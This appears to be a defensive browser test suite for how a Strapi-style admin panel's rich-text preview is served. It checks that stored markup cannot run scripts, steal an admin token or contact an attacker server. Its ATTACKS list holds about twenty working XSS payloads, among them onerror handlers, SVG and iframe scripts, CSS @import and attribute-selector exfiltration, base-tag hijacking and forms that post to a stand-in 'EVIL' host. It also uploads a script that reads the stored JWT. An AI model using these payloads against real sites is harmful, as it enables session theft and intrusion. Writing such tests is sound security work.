import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { browserMissing, openBrowser } from '../support/browser.ts';
import { CONFORMANCE_PROJECT } from '../support/conformance-material.ts';
import { type AttackedServer, as, fileForm, startAttacked } from './attacked-server.ts';

/**
 * The panel's preview of rich text inserts what an author has stored. Here nothing is sanitized on the way, which is
 * the worst that its library can do; what is left is how Plinth serves the panel and uploaded files.
 */

const MAIN = `
window.show = (html) => { document.getElementById('preview').innerHTML = html; };
localStorage.setItem('jwtToken', 'of a super admin');
`;

const folder = mkdtempSync(join(tmpdir(), 'plinth-preview-'));
/** What the attacker's server was asked for. */
const heard: string[] = [];
const evil = createServer((request, response) => {
  heard.push(request.url ?? '');
  response.setHeader('access-control-allow-origin', '*').end('/* of the attacker */');
});

let server: AttackedServer;
let evilUrl = '';
let script = '';
let page: Page;

beforeAll(async () => {
  if (browserMissing !== null) return;
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  cpSync(CONFORMANCE_PROJECT, folder, { recursive: true });
  writeFileSync(
    join(folder, 'config/admin.js'),
    "module.exports = { auth: { secret: 'a-secret-of-administrators' } };",
  );
  writeFileSync(join(folder, 'package.json'), '{ "dependencies": { "@strapi/strapi": "4.26.2" } }');
  mkdirSync(join(folder, 'build'));
  const body = '<div id="preview"></div><script src="/admin/main.js"></script>';
  writeFileSync(join(folder, 'build/index.html'), `<!doctype html><title>The panel</title>${body}`);
  writeFileSync(join(folder, 'build/main.js'), MAIN);
  server = await startAttacked({ project: folder });
  const form = fileForm('taken.js', 'text/javascript', 'top.taken = localStorage.jwtToken');
  const uploaded = await server.send('POST', '/api/upload', form, as('token-full'));
  [{ url: script }] = (await uploaded.json()) as [{ url: string }];
  page = await (await openBrowser()).newPage();
});
afterAll(async () => {
  await page?.close();
  await server?.stop();
  evil.close();
  rmSync(folder, { recursive: true, force: true });
});

/** EVIL is the attacker's server, SCRIPT a script uploaded to this one. */
const ATTACKS: readonly (readonly [string, string])[] = [
  ['a handler', '<img src="/nothing.png" onerror="top.taken = 1">'],
  ['a handler of an animation', '<svg><animate onbegin="top.taken = 1" attributeName="x" dur="1s"></svg>'],
  ['a script in a drawing', '<svg><script>top.taken = 1</script></svg>'],
  ['text of an xmp that comes out as markup', '<xmp><p title="</xmp><img src=x onerror=top.taken=1>"></xmp>'],
  ['a frame with a script', '<iframe srcdoc="<script>top.taken = 1</script>"></iframe>'],
  ['a frame with an uploaded script', '<iframe srcdoc="<script src=SCRIPT></script>"></iframe>'],
  ['a frame with an uploaded module', '<iframe srcdoc="<script type=module src=SCRIPT></script>"></iframe>'],
  ['a frame of another site', '<iframe src="EVIL/frame"></iframe>'],
  ['an object', '<object data="EVIL/object"></object><embed src="EVIL/embed">'],
  ['styles that load', '<style>@import url(EVIL/import); body { background: url(EVIL/background) }</style>'],
  ['styles of another site', '<link rel="stylesheet" href="EVIL/sheet">'],
  ['styles that guess a value', '<input value="secret"><style>input[value^=s] { background: url(EVIL/s) }</style>'],
  ['pictures that report', '<img src="EVIL/image"><video src="EVIL/video"></video><audio src="EVIL/audio"></audio>'],
  ['a drawing of another site', '<svg><use href="EVIL/use#a"/><image href="EVIL/image"/></svg>'],
  ['another base', '<base href="EVIL/base/"><img src="relative.png">'],
  ['a form to another site', '<form action="EVIL/form"><button id="press">Continue</button></form>'],
  ['a form to this server', '<form action="/admin/logout" method="post"><button id="press">Continue</button></form>'],
  [
    'a button of another form',
    '<form></form><button id="press" formaction="EVIL/button" form="f">x</button><form id="f">',
  ],
  ['styles of the page', '<style>* { outline: 5px solid lime !important }</style>'],
  ['styles inside another element', '<p><b><style>* { outline-style: solid !important }</style></b></p>'],
  ['styles of a drawing', '<svg><style>* { outline: 5px solid lime !important }</style></svg>'],
  ['a link that is a script', '<a id="press" href="javascript:top.taken=1">Continue</a>'],
];

/** How the page is drawn; the styles that the panel itself has are in its head. */
const outline = (): Promise<string> => page.evaluate('getComputedStyle(document.body).outlineStyle');

describe.skipIf(browserMissing !== null)('an author’s text, shown to a super admin', () => {
  test.each(ATTACKS)('%s: nothing runs, is sent or is loaded', async (_name, markup) => {
    await page.goto(`${server.url}/admin`);
    const sent: string[] = [];
    page.on('request', (request) => request.method() === 'POST' && sent.push(request.url()));
    heard.length = 0;
    const html = markup.replaceAll('EVIL', evilUrl).replaceAll('SCRIPT', `${server.url}${script}`);
    await page.evaluate(`show(${JSON.stringify(html)})`);
    await page.evaluate("document.querySelector('#press')?.click()");
    // Whatever was begun has ended when the page has drawn twice and its frames are loaded.
    const drawn = 'requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 150)))';
    await page.evaluate(`new Promise((resolve) => ${drawn})`);
    expect(await outline()).toBe('none');
    const seen = await page.evaluate('({ taken: window.taken, base: document.baseURI })');
    expect(seen).toEqual({ taken: undefined, base: `${server.url}/admin` });
    expect({ heard, sent }).toEqual({ heard: [], sent: [] });
  });

  test('the panel’s own styles stay', async () => {
    await page.goto(`${server.url}/admin`);
    await page.evaluate(
      `document.head.append(Object.assign(document.createElement('style'), { textContent: OWN }))`.replace(
        'OWN',
        "'body { outline: 1px solid }'",
      ),
    );
    expect(await outline()).toBe('solid');
  });
});
